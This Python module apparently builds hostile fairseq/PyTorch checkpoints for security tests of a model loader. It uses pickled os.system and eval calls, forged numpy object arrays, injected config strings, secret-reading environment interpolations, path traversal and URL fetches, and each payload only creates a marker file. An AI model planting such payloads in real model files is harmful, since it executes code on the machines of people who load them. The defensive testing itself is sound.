"""Hostile checkpoints, by kind. Each is a function that takes a real state and returns a hostile state or bytes."""

import io
import os
import pickle
import tempfile
from argparse import Namespace
from pathlib import Path

import numpy as np
import torch
from fairseq import utils
from omegaconf import OmegaConf

MARKER = Path(tempfile.gettempdir()) / f"a-checkpoint-ran-{os.getpid()}"  # hostile code creates it when it runs
CALL = f"__import__('os').system('touch {MARKER}')"
OPEN = f"open('{MARKER}', 'w')"


class Made:
    """Pickled as a call with arguments and perhaps a state."""

    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


class Options(Namespace):
    def __getattr__(self, name):
        return os.system(f"touch {MARKER}")


def saved(state, **options):
    content = io.BytesIO()
    torch.save(state, content, **options)
    return content.getvalue()


def calling(function, *arguments):
    """Add an object to the state that is pickled as a call."""
    return lambda state: {**state, "extra": Made(function, arguments)}


def forged_array():
    """An array of bytes, as numpy pickles it, whose type says that they are pointers to objects."""
    kind = Made(np.dtype, ("O", False, True), (3, "|", None, None, None, 8, 8, 0))
    return Made(*np.empty(0).__reduce__()[:2], (1, (1,), kind, False, bytes(8)))


def flat(state, **options):
    """Convert a state to the older format: one Namespace with all options."""
    sections = [section for section in state.pop("cfg").values() if isinstance(section, dict)]
    values = {name: value for section in sections for name, value in section.items() if name != "_name"}
    names = {"arch": "capsule_transformer_tiny", "task": "translation", "criterion": "cross_entropy"}
    return {**state, "args": Namespace(**{**values, **names, **options})}


def option(name, value, section="model"):
    """Set an option of the model, or of another section."""

    def nested(state):
        part = state["cfg"].get(section)
        state["cfg"][section] = {**(part if isinstance(part, dict) else {}), name: value}
        return state

    return nested


FILES = {
    "os.system": calling(os.system, f"touch {MARKER}"),
    "eval": calling(eval, CALL),
    "torch.hub": calling(torch.hub.load, "somebody/something", "model"),
    "safe globals": calling(torch.serialization.add_safe_globals, [os.system]),
    "fairseq's eval": calling(utils.eval_str_list, CALL),
    "fairseq's import": calling(utils.import_user_module, Namespace(user_dir="/tmp")),
    "a config": lambda state: {**state, "cfg": OmegaConf.create({"a": "${oc.env:HOME}"})},
    "older format": lambda state: saved(calling(eval, CALL)(state), _use_new_zipfile_serialization=False),
    "a pickle alone": lambda state: pickle.dumps(Made(os.system, (f"touch {MARKER}",))),
    "an array of objects": lambda state: {**state, "extra": np.array([Made(eval, (CALL,))], dtype=object)},
    "an array of pointers": lambda state: {**state, "extra": forged_array()},
    "a half": lambda state: saved(state)[:5000],
}
OPTIONS = {
    "a call": option("adaptive_softmax_cutoff", CALL),
    "a call, args": lambda state: flat(state, adaptive_softmax_cutoff=CALL),
    "a call in a list": option("decoder_attention", [f"[{CALL}]"]),
    "a call in a dict": option("decoder_attention", {"a": {"b": (OPEN,)}}),
    "a call in a Namespace": lambda state: flat(state, decoder_attention=Namespace(a=OPEN)),
    "a call as a key": option("decoder_attention", {OPEN: 1}),
    "a call in JSON": option("eval_bleu_args", '{"beam": "' + OPEN + '"}', "task"),
    "a class": option("decoder_attention", torch.nn.Parameter),
    "a Namespace of a class": option("decoder_attention", Options()),
    "an f-string": option("decoder_attention", f"f'{{{OPEN}}}'"),
    "a lambda": option("decoder_attention", f"(lambda: {OPEN})()"),
    "escapes": option("decoder_attention", r"'\x5f\x5fimport\x5f\x5f(0)'"),
    "a second line": option("decoder_attention", f"1\n+{OPEN}"),
    "an interpolation": option("dropout", "${oc.env:SECRET}"),
    "an interpolation of a path": lambda state: flat(state, encoder_embed_path="x${oc.env:SECRET}y"),
    "an interpolation in a literal": lambda state: flat(state, dropout=r"'\x24{oc.env:SECRET}'"),
    "a component by a path": lambda state: flat(state, bpe="../../../../../../tmp/evil"),
    "a component by a dotted path": option("_name", "os.system"),
    "a URL": option("bpe_codes", "http://localhost:9/codes", "bpe"),
    "a URL with blanks": option("bpe_codes", "ht\ntp:\n//localhost:9/codes", "bpe"),
    "a URL in JSON": option("eval_bleu_detok_args", '{"bpe_codes": "http://localhost:9/codes"}', "task"),
    "a file to write": option("save_predictions", str(MARKER), "criterion"),
    "a config that is a text": lambda state: {**state, "cfg": CALL},
}
HOSTILE = {**FILES, **OPTIONS}
